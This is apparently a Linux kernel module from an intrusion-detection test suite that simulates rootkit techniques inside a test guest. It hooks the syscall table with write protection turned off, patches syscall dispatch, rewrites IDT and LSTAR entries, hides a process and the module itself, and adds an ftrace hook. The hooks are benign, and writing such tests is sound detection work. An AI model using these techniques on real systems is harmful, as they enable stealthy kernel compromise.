// SPDX-License-Identifier: GPL-2.0
/*
 * smmvmi attack simulations: the rootkit techniques `ids check` must find,
 * as a kernel module loaded into a test guest (`cargo xtask vm attack`).
 * Each technique is undone when the module is removed, so the guest keeps
 * running. Parameters: kind=hook-syscall nr=N | patch-dispatch nr=N |
 * hook-idt vector=V | lstar cpu=C | hide-pid pid=P | hide-module |
 * ftrace-hook sym=FUNCTION.
 *
 * - hook-syscall: sys_call_table[nr] points to this module (the table is
 *   read-only: written with CR0.WP cleared, as rootkits do).
 * - patch-dispatch: the direct call or jump to syscall nr's function in
 *   x64_sys_call (kernels with the branch-history fix dispatch through it)
 *   goes to this module instead.
 * - hook-idt: IDT gate `vector` (in idt_table, which the CPUs' read-only
 *   IDT alias maps) points to this module; pick a vector nothing raises
 *   (0x80: no 32-bit programs in the test guest).
 * - lstar: MSR_LSTAR of CPU `cpu` points to a trampoline in this module
 *   that jumps to the real entry_SYSCALL_64 (no PTI in the test guests).
 * - hide-pid: the task `pid` is unlinked from init_task.tasks (ps and
 *   /proc no longer list it); keep it single-threaded and alive.
 * - ftrace-hook: an ftrace_ops with a callback in this module is attached
 *   to FUNCTION (register_ftrace_function with IPMODIFY, as ftrace-based
 *   rootkits hook syscalls); the callback does nothing.
 * - hide-module: this module unlinks itself from the module list and from
 *   /sys/module. It cannot be removed afterwards (rmmod finds it by the
 *   list): use it last on a throwaway guest.
 */
#include <linux/module.h>
#include <linux/kprobes.h>
#include <linux/smp.h>
#include <linux/string.h>
#include <linux/irqflags.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/sched/signal.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/ftrace.h>
#include <asm/msr.h>
#include <asm/special_insns.h>
#include <asm/processor-flags.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("smmvmi attack simulations for IDS tests");

static char *kind = "";
module_param(kind, charp, 0444);
static int nr = -1;
module_param(nr, int, 0444);
static int vector = -1;
module_param(vector, int, 0444);
static int cpu = -1;
module_param(cpu, int, 0444);
static int pid = -1;
module_param(pid, int, 0444);

static char *sym = "";
module_param(sym, charp, 0444);

static struct task_struct *hidden;
static unsigned long traced;

static void notrace ftrace_cb(unsigned long ip, unsigned long parent_ip,
			      struct ftrace_ops *op, struct ftrace_regs *fregs)
{
}

static struct ftrace_ops fops = {
	.func = ftrace_cb,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY |
		 FTRACE_OPS_FL_RECURSION,
};
static rwlock_t *tasklist;

typedef unsigned long (*lookup_t)(const char *);
typedef long (*sys_fn)(const struct pt_regs *);

static lookup_t lookup;
static sys_fn *table;
static sys_fn orig_sys;
static u8 *site;
static s32 orig_rel;
static u8 *gate;
static u8 orig_gate[16];
unsigned long smmvmi_orig_lstar;
static int active;

void smmvmi_lstar_tramp(void);
asm(".pushsection .text\n"
    ".globl smmvmi_lstar_tramp\n"
    "smmvmi_lstar_tramp:\n"
    "    jmp *smmvmi_orig_lstar(%rip)\n"
    "    int3\n"
    ".popsection\n");

static long hooked(const struct pt_regs *regs)
{
	return orig_sys(regs);
}

static void never_called(void)
{
}

static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };

	if (register_kprobe(&kp) < 0)
		return -ENOENT;
	lookup = (lookup_t)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? 0 : -ENOENT;
}

/* Writes read-only kernel memory the way rootkits do: CR0.WP off. */
static void poke(void *dst, const void *src, size_t n)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(dst, src, n);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static void set_lstar(void *unused)
{
	rdmsrl(MSR_LSTAR, smmvmi_orig_lstar);
	wrmsrl(MSR_LSTAR, (unsigned long)smmvmi_lstar_tramp);
}

static void reset_lstar(void *unused)
{
	wrmsrl(MSR_LSTAR, smmvmi_orig_lstar);
}

static int __init attack_init(void)
{
	int err = find_lookup();

	if (err)
		return err;
	table = (sys_fn *)lookup("sys_call_table");
	if (!strcmp(kind, "hook-syscall")) {
		sys_fn h = hooked;

		if (!table || nr < 0 || nr >= 512)
			return -EINVAL;
		orig_sys = table[nr];
		poke(&table[nr], &h, sizeof(h));
	} else if (!strcmp(kind, "patch-dispatch")) {
		u8 *fn = (u8 *)lookup("x64_sys_call");
		unsigned long target;
		long rel;
		s32 rel32;
		int i;

		if (!table || !fn || nr < 0 || nr >= 512)
			return -EINVAL;
		orig_sys = table[nr];
		target = (unsigned long)orig_sys;
		for (i = 0; i < 16384 && !site; i++) {
			s32 r;

			if (fn[i] != 0xe8 && fn[i] != 0xe9)
				continue;
			memcpy(&r, fn + i + 1, 4);
			if ((unsigned long)(fn + i + 5) + (long)r == target)
				site = fn + i;
		}
		if (!site)
			return -ENOENT;
		memcpy(&orig_rel, site + 1, 4);
		rel = (long)hooked - (long)(site + 5);
		if (rel != (s32)rel)
			return -ERANGE;
		rel32 = rel;
		poke(site + 1, &rel32, 4);
	} else if (!strcmp(kind, "hook-idt")) {
		u8 *idt = (u8 *)lookup("idt_table");
		unsigned long h = (unsigned long)never_called;
		u8 g[16];

		if (!idt || vector < 32 || vector > 255)
			return -EINVAL;
		gate = idt + 16 * vector;
		memcpy(orig_gate, gate, 16);
		memcpy(g, gate, 16);
		g[0] = h;
		g[1] = h >> 8;
		g[6] = h >> 16;
		g[7] = h >> 24;
		g[8] = h >> 32;
		g[9] = h >> 40;
		g[10] = h >> 48;
		g[11] = h >> 56;
		poke(gate, g, 16);
	} else if (!strcmp(kind, "lstar")) {
		if (cpu < 0 || !cpu_online(cpu))
			return -EINVAL;
		err = smp_call_function_single(cpu, set_lstar, NULL, 1);
		if (err)
			return err;
	} else if (!strcmp(kind, "hide-pid")) {
		rcu_read_lock();
		hidden = pid_task(find_vpid(pid), PIDTYPE_PID);
		if (hidden)
			get_task_struct(hidden);
		rcu_read_unlock();
		if (!hidden)
			return -ESRCH;
		/* tasklist_lock is not exported: rootkits look it up. */
		tasklist = (rwlock_t *)lookup("tasklist_lock");
		if (!tasklist) {
			put_task_struct(hidden);
			return -ENOENT;
		}
		write_lock_irq(tasklist);
		list_del_init(&hidden->tasks);
		write_unlock_irq(tasklist);
	} else if (!strcmp(kind, "ftrace-hook")) {
		traced = lookup(sym);
		if (!traced)
			return -ENOENT;
		err = ftrace_set_filter_ip(&fops, traced, 0, 0);
		if (err)
			return err;
		err = register_ftrace_function(&fops);
		if (err) {
			ftrace_set_filter_ip(&fops, traced, 1, 0);
			return err;
		}
	} else if (!strcmp(kind, "hide-module")) {
		list_del_rcu(&THIS_MODULE->list);
		kobject_del(&THIS_MODULE->mkobj.kobj);
	} else {
		return -EINVAL;
	}
	active = 1;
	pr_info("smmvmi_attack: %s active\n", kind);
	return 0;
}

static void __exit attack_exit(void)
{
	if (!active)
		return;
	if (!strcmp(kind, "hook-syscall"))
		poke(&table[nr], &orig_sys, sizeof(orig_sys));
	else if (!strcmp(kind, "patch-dispatch"))
		poke(site + 1, &orig_rel, 4);
	else if (!strcmp(kind, "hook-idt"))
		poke(gate, orig_gate, 16);
	else if (!strcmp(kind, "lstar"))
		smp_call_function_single(cpu, reset_lstar, NULL, 1);
	else if (!strcmp(kind, "ftrace-hook")) {
		unregister_ftrace_function(&fops);
		ftrace_set_filter_ip(&fops, traced, 1, 0);
	} else if (!strcmp(kind, "hide-pid")) {
		write_lock_irq(tasklist);
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
		write_unlock_irq(tasklist);
		put_task_struct(hidden);
	}
	pr_info("smmvmi_attack: %s undone\n", kind);
}

module_init(attack_init);
module_exit(attack_exit);
